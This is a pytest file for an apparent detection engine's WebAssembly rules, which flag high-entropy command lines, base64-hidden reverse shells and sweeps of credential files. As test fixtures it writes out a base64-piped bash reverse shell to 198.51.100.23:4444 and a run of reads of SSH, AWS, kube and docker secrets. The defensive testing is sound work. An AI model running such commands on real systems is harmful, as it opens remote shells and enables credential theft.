"""The bundled Wasm rules, built from their Rust and AssemblyScript sources.

- each example builds, loads, carries metadata and both kinds of case, and
  every embedded case passes (one pytest item per case, like the EQL rules);
- their EQL-callable functions answer from EQL queries;
- with every bundled rule (EQL and Wasm) the sample replay raises exactly
  the EQL rules' alerts: the Wasm rules stay quiet on its benign traffic;
- `kestrel rules build/check/test` work on them from the command line.
"""

from __future__ import annotations

import math
import pathlib
import subprocess
import sys
from collections import Counter

import pytest

from kestrel import Config, Engine
from kestrel.hosts.wasm_build import find_rule_dirs
from kestrel.rules.testing import collect_specs, run_case

ROOT = pathlib.Path(__file__).resolve().parents[1]
WASM = ROOT / "examples" / "rules" / "wasm"
EXAMPLES = {
    "cmdline_entropy": ("rust", "kestrel-wasm-high-entropy-cmdline"),
    "base64_payload": ("rust", "kestrel-wasm-base64-reverse-shell"),
    "credential_sweep": ("assemblyscript", "kestrel-wasm-credential-file-sweep"),
}

pytestmark = pytest.mark.usefixtures("wasm_examples")


def test_the_examples_are_there_in_both_sdk_languages() -> None:
    dirs, _ = find_rule_dirs([str(WASM)])
    assert sorted(pathlib.Path(d).name for d in dirs) == sorted(EXAMPLES)
    from kestrel.hosts.wasm_build import detect_language

    for name, (lang, _) in EXAMPLES.items():
        assert detect_language(str(WASM / name), {}) == lang


def test_examples_load_with_metadata_and_cases() -> None:
    engine = Engine(Config())
    report = engine.load_rules(str(WASM))
    assert report.errors == []
    assert sorted(r.id for r in report.rules) == sorted(rid for _, rid in EXAMPLES.values())
    for rule in report.rules:
        spec = rule.spec
        assert spec.description.strip() and spec.severity in ("low", "medium", "high", "critical")
        assert any(t.startswith("attack.t") for t in spec.tags), spec.id
        expects = [c.expect for c in spec.tests]
        assert any(e >= 1 for e in expects) and any(e == 0 for e in expects), spec.id
        assert rule.kind == "event" and rule.stage is not None


def _cases() -> list:
    try:
        specs, errors = collect_specs([str(WASM)], Config())
    except Exception:  # not built at collection time: the fixture reports why
        return []
    return [pytest.param(spec, case, id=f"{spec.id}::{case.name}") for spec in specs for case in spec.tests]


@pytest.mark.parametrize(("spec", "case"), _cases())
def test_embedded_case(spec, case) -> None:  # type: ignore[no-untyped-def]
    result = run_case(spec, case, Config())
    assert not result.error, result.error
    assert result.passed, f"expected {result.expected} alert(s), got {result.got}"


def test_embedded_cases_all_ran() -> None:
    specs, errors = collect_specs([str(WASM)], Config())
    assert errors == [] and sum(len(s.tests) for s in specs) >= 12


def proc(pid: int, name: str, cmdline: str, args: list[str] | None = None) -> dict:
    return {"event": {"category": "process", "type": "start"}, "@timestamp": 1_700_000_000_000_000_000 + pid,
            "process": {"pid": pid, "name": name, "command_line": cmdline, "args": args or cmdline.split(),
                        "entity_id": f"e{pid}"}}


def test_entropy_function_matches_a_reference_and_serves_eql() -> None:
    engine = Engine(Config())
    assert engine.load_rules(str(WASM / "cmdline_entropy")).errors == []
    shannon = engine.functions["wasm.entropy.shannon"]
    words = ["aaaa", "abcd", "hello world", "aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ=", "ünïcödé"]

    def ref(s: str) -> float:
        n = len(s)
        return -sum(c / n * math.log2(c / n) for c in Counter(s).values())

    got = shannon.call_batch([(w,) for w in words] + [(None,), ("",)])
    for w, g in zip(words, got):
        # The module may count bytes rather than characters: accept either reading.
        b = w.encode()
        by_bytes = -sum(c / len(b) * math.log2(c / len(b)) for c in Counter(b).values())
        assert g == pytest.approx(ref(w), abs=1e-6) or g == pytest.approx(by_bytes, abs=1e-6), w
    assert got[-2:] == [None, None]
    engine.add_query('process where wasm.entropy.shannon(process.command_line) > 4.5', id="noisy")
    events = [proc(1, "sh", "sh -c ls"), proc(2, "python3", "python3 -c exec(" + "Zm9yIGkgaW4gcmFuZ2UoMTApOiBwcmludChpKQ==" * 2 + ")")]
    fired = [a.events[0]["process"]["pid"] for a in engine.process_many(events) if a.rule.id == "noisy"]
    assert fired == [2]


def test_base64_rule_requests_kill_for_a_reverse_shell_and_decode_serves_eql() -> None:
    import base64

    engine = Engine(Config())
    assert engine.load_rules(str(WASM / "base64_payload")).errors == []
    payload = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1").decode()
    harmless = base64.b64encode(b"hello from the deploy script, nothing to see").decode()
    events = [proc(1, "bash", f"bash -c echo {payload} | base64 -d | bash"), proc(2, "bash", f"bash -c echo {harmless} | base64 -d")]
    alerts = [a for a in engine.process_many(events) if a.rule.id == "kestrel-wasm-base64-reverse-shell"]
    assert [a.events[0]["process"]["pid"] for a in alerts] == [1]
    (a,) = alerts
    assert a.extra.get("actions") == ["kill"] and "/dev/tcp/" in a.extra["data"]["decoded"]
    decode = engine.functions["wasm.b64.decode"]
    assert decode.call_batch([(f"x {payload} y",), ("no base64 here",)]) == ["bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", None]


def test_credential_sweep_keeps_state_across_batches() -> None:
    """The state machine must see a sweep that spans several batches."""
    engine = Engine(Config())
    assert engine.load_rules(str(WASM / "credential_sweep")).errors == []
    files = ["/home/alice/.ssh/id_rsa", "/home/alice/.aws/credentials", "/home/alice/.kube/config", "/home/alice/.docker/config.json"]
    alerts = []
    t = 1_700_000_000_000_000_000
    for i, path in enumerate(files):
        e = {"event": {"category": "file", "action": "open"}, "@timestamp": t + i * 1_000_000_000,
             "process": {"entity_id": "stealer", "name": "python3"}, "file": {"path": path}}
        alerts += engine.process(e)
        alerts += engine.flush()  # each file in its own batch
    assert [a.rule.id for a in alerts] == ["kestrel-wasm-credential-file-sweep"]
    assert alerts[0].extra["data"]["count"] == 4


def test_wasm_rules_stay_quiet_on_the_sample() -> None:
    import importlib.util

    spec = importlib.util.spec_from_file_location("example_rules", ROOT / "tests" / "test_example_rules.py")
    assert spec is not None and spec.loader is not None
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    engine = Engine(Config())
    report = engine.load_rules(str(WASM))
    assert report.errors == [] and len(report.rules) == 3
    events, _ = mod._sample_events()
    assert list(engine.process_many(events)) == []
    assert all(h.fault_count == 0 for h in engine.wasm_modules)


def test_cli_build_check_and_test(tmp_path: pathlib.Path) -> None:
    import shutil

    # The crate finds the SDK by a relative path, as in the repository.
    (tmp_path / "sdk").symlink_to(ROOT / "sdk")
    d = tmp_path / "examples" / "rules" / "wasm" / "cmdline_entropy"
    shutil.copytree(WASM / "cmdline_entropy", d, ignore=shutil.ignore_patterns("build"))
    run = lambda *a: subprocess.run([sys.executable, "-m", "kestrel", *a], capture_output=True, text=True, cwd=ROOT)  # noqa: E731
    out = run("rules", "check", str(d))
    assert out.returncode == 1 and "kestrel rules build" in out.stdout + out.stderr
    out = run("rules", "build", str(d))
    assert out.returncode == 0 and "built (rust)" in out.stdout, out.stderr
    assert run("rules", "build", str(d)).stdout.count("up to date") == 1
    out = run("rules", "check", str(d))
    assert out.returncode == 0 and "1 rules loaded" in out.stdout
    out = run("rules", "test", str(d))
    assert out.returncode == 0 and " 0 failed" in out.stdout
    (d / "src" / "lib.rs").write_text((d / "src" / "lib.rs").read_text() + "\nthis is not rust\n")
    out = run("rules", "build", str(d))
    assert out.returncode == 1 and "build failed" in out.stderr and "error" in out.stderr
